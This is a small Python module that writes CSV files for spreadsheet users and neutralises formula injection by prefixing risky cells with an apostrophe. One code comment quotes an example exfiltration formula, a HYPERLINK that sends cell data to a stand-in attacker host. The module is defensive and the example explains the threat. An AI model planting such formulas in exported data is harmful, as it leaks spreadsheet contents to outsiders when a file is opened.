"""CSV for people who open it in a spreadsheet."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable

# A cell starting with one of these is run as a formula by spreadsheets: evidence or a
# skill name like '=HYPERLINK("http://evil.example/?"&A1)' would be. Such cells are
# written as text, with a leading apostrophe.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: object) -> object:
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_text(header: list[str], rows: Iterable[Iterable[object]]) -> str:
    """The header and the rows as CSV, every text cell kept from running as a formula."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(header)
    writer.writerows([safe_cell(value) for value in row] for row in rows)
    return out.getvalue()
